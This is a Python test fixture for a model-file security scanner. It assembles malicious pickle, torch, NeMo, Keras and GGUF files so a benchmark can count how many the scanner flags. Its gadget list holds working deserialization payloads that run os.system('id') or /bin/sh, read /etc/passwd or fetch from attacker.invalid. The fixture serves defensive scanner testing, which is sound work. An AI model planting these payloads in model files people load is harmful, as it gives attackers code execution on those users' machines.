"""Malicious serialization cases of issue 23, built opcode by opcode (never unpickled).

Shared by the tests and benchmarks/serialization_round2.py, which counts how many of them a
revision of petgov judges high or above.
"""

from __future__ import annotations

import io
import struct
import tarfile
from pathlib import Path

from petgov.model import Severity
from tests.scanners.pickle_asm import (
    call,
    empty_dict,
    glob,
    pickle2,
    pickle4,
    stack_glob,
    tup,
    ustr,
)

CODE = "__import__('os').system('id')"


# (advisory class, payload, lowest acceptable verdict)
GADGETS = [
    (
        "typing_forwardref_eval",  # eval reached through typing's forward references
        pickle2(
            call(
                glob("typing", "_eval_type"),
                call(glob("typing", "ForwardRef"), ustr(CODE)),
                empty_dict(),
                empty_dict(),
            )
        ),
        Severity.CRITICAL,
    ),
    (
        "typing_forwardref_alone",
        pickle4(call(stack_glob("typing", "ForwardRef"), ustr(CODE))),
        Severity.CRITICAL,
    ),
    (
        "dataclasses_create_fn_exec",  # exec through dataclasses' private function builder
        pickle2(
            call(
                glob("dataclasses", "_create_fn"),
                ustr("f"),
                b"]",
                b"]" + ustr(CODE) + b"a",
            )
        ),
        Severity.CRITICAL,
    ),
    (
        "dataclasses_funcbuilder",  # the 3.13 builder
        pickle4(call(stack_glob("dataclasses", "_FuncBuilder"), empty_dict())),
        Severity.CRITICAL,
    ),
    (
        "posixsubprocess_fork_exec",  # the private spawn primitive, called directly
        pickle2(call(glob("_posixsubprocess", "fork_exec"), b"]" + ustr("/bin/sh") + b"a")),
        Severity.CRITICAL,
    ),
    (
        "winapi_createprocess",
        pickle2(call(glob("_winapi", "CreateProcess"), b"N" + ustr("cmd /c calc"))),
        Severity.CRITICAL,
    ),
    (
        "pandas_read_csv_url",  # a reader fetching a URL at load time
        pickle4(call(stack_glob("pandas", "read_csv"), ustr("https://attacker.invalid/x.csv"))),
        Severity.CRITICAL,
    ),
    (
        "pandas_io_read_pickle",  # a nested unpickle of a path
        pickle4(call(stack_glob("pandas.io.pickle", "read_pickle"), ustr("/tmp/evil.pkl"))),
        Severity.CRITICAL,
    ),
    (
        "pandas_eval",
        pickle4(call(stack_glob("pandas.core.computation.eval", "eval"), ustr("1+1"))),
        Severity.CRITICAL,
    ),
    (
        "pyarrow_parquet_read_table",
        pickle4(call(stack_glob("pyarrow.parquet", "read_table"), ustr("s3://bucket/x"))),
        Severity.CRITICAL,
    ),
    (
        "numpy_fromfile",
        pickle4(call(stack_glob("numpy", "fromfile"), ustr("/etc/passwd"))),
        Severity.CRITICAL,
    ),
    (
        "numpy_ufunc_reconstruct_importer",  # numpy's ufunc importer pointed at os.system
        pickle2(call(glob("numpy.core", "_ufunc_reconstruct"), ustr("os"), ustr("system"))),
        Severity.CRITICAL,
    ),
    (
        "numpy_ufunc_reconstruct_computed",
        pickle2(
            call(
                glob("numpy._core", "_ufunc_reconstruct"),
                call(glob("builtins", "str"), ustr("o")),
                ustr("system"),
            )
        ),
        Severity.HIGH,
    ),
    (
        "torch_utils_import_dotted_name",  # importer inside an allow-listed torch namespace
        pickle4(call(stack_glob("torch._utils", "_import_dotted_name"), ustr("os.system"))),
        Severity.CRITICAL,
    ),
    (
        "sklearn_fetch_openml",  # a download inside an allow-listed namespace
        pickle4(call(stack_glob("sklearn.datasets", "fetch_openml"), ustr("attacker-data"))),
        Severity.CRITICAL,
    ),
    (
        "torch_jit_load",  # TorchScript builders are allowed, the rest of torch.jit is not
        pickle4(call(stack_glob("torch.jit", "load"), ustr("/tmp/x.pt"))),
        Severity.CRITICAL,
    ),
    (
        "private_stdlib_by_rule",  # a private stdlib module on no list
        pickle4(call(stack_glob("_compression", "DecompressReader"), b"N")),
        Severity.HIGH,
    ),
    (
        "unknown_function_with_string",  # an unknown callable called with a string
        pickle4(call(stack_glob("somepkg.util", "run_command"), ustr("id"))),
        Severity.HIGH,
    ),
    (
        "pandas_dataframe_query",  # DataFrame.query evaluates through pandas.eval
        pickle4(call(stack_glob("pandas.core.frame", "DataFrame.query"), b"N" + ustr("a>1"))),
        Severity.CRITICAL,
    ),
    (
        "gzip_open_path",  # an unknown stdlib function given a path
        pickle4(call(stack_glob("gzip", "open"), ustr("/tmp/x.gz"), ustr("wb"))),
        Severity.HIGH,
    ),
    (
        "threading_timer",
        pickle4(call(stack_glob("threading", "Timer"), b"K\x00" + stack_glob("os", "getpid"))),
        Severity.CRITICAL,
    ),
]


SYSTEM = call(glob("os", "system"), ustr("id"))


def storages(record: bytes = tup(ustr("0"), ustr("cpu"), glob("torch", "FloatStorage"))) -> bytes:
    # count, then (key, location, storage_type) + int64 element count + float32 data, then views
    return pickle2(b"K\x01") + pickle2(record) + struct.pack("<q", 2) + b"\0" * 8 + pickle2(b"]")


def tensors(key: bytes = ustr("1")) -> bytes:
    record = struct.pack("<ii", 1, 0) + struct.pack("<qqq", 2, 1, 0)  # ndim, pad, size, stride, off
    return pickle2(b"K\x01") + pickle2(key) + record


def legacy_tar(path: Path, storages: bytes, tensors: bytes, main: bytes) -> Path:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in (("storages", storages), ("tensors", tensors), ("pickle", main)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    path.write_bytes(buf.getvalue())
    return path


def malicious_files(out: Path) -> list[Path]:
    """Every malicious case written under ``out``."""
    paths = []
    for case, data, _ in GADGETS:
        path = out / f"{case}.pkl"
        path.write_bytes(data)
        paths.append(path)
    benign_main = pickle2(b"}")
    paths.append(
        legacy_tar(
            out / "legacy_tar_storages.pt",
            storages(tup(ustr("0"), ustr("cpu"), SYSTEM)),
            tensors(),
            benign_main,
        )
    )
    paths.append(
        legacy_tar(out / "legacy_tar_tensors.pt", storages(), tensors(SYSTEM), benign_main)
    )
    paths.append(legacy_tar(out / "legacy_tar_pickle.pt", storages(), tensors(), pickle2(SYSTEM)))
    paths.extend(_container_and_header_files(out))
    return paths


def _container_and_header_files(out: Path) -> list[Path]:
    """NeMo, TorchServe, Keras and header-format cases, built by the tests' own writers."""
    from tests.scanners import test_flax_msgpack as flax
    from tests.scanners import test_gbdt as gbdt
    from tests.scanners import test_hydra_config as nemo
    from tests.scanners import test_keras as k
    from tests.scanners import test_keras_gadgets as kg
    from tests.scanners import test_llamafile as llamafile
    from tests.scanners import test_loader_attacks as hdr
    from tests.scanners import test_skops as skops
    from tests.scanners import test_tflite as tfl
    from tests.scanners import test_torchscript_code as ts
    from tests.scanners import test_torchserve_mar as mar

    paths = [
        nemo._nemo(out / "nemo_exec.nemo", "x:\n  _target_: builtins.exec\n  _args_: ['1']\n"),
        nemo._nemo(out / "nemo_fetch.nemo", "x:\n  _target_: somepkg.get\n  _args_: ['u']\n"),
        mar._mar(out / "spawn.mar", "handler.py", {"handler.py": mar.SPAWNS}),
        mar._mar(out / "fetch.mar", "handler.py", {"handler.py": mar.FETCHES}),
    ]
    for case, obj, _ in kg.GADGETS:
        path = out / f"keras_{case}.keras"
        path.write_bytes(k.keras_zip(k.sequential(k.DENSE, obj)))
        paths.append(path)
    for case, data in (
        ("element_count_overflow", hdr.gguf(dims=(1 << 32, 1 << 32))),
        ("offset_out_of_range", hdr.gguf(offset=1 << 40)),
        ("string_length_2_62", hdr.gguf(key_len=1 << 62)),
        ("tensor_count_overflow", hdr.gguf(n_tensors=1 << 60)),
    ):
        path = out / f"gguf_{case}.gguf"
        path.write_bytes(data)
        paths.append(path)
    (out / "ts").mkdir()
    paths.append(ts._rewrite(ts._scripted(out / "ts" / "scripted.pt"), ts.SETSTATE_READS))
    st = out / "huge_header.safetensors"
    st.write_bytes(
        struct.pack("<Q", 1 << 40) + b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    )
    paths.append(st)
    onnx_key = out / "external_key.onnx"
    onnx_key.write_bytes(hdr.model([hdr.node("Relu")], [hdr.tensor("w", "w.bin", __class__="x")]))
    paths.append(onnx_key)
    (out / "gbdt").mkdir()
    paths.extend(gbdt.malicious_files(out / "gbdt"))
    (out / "skops").mkdir()
    paths.extend(skops.malicious_files(out / "skops"))
    paths.extend(llamafile.malicious_files(out))
    paths.extend(tfl.malicious_files(out))
    paths.extend(flax.malicious_files(out))
    return paths
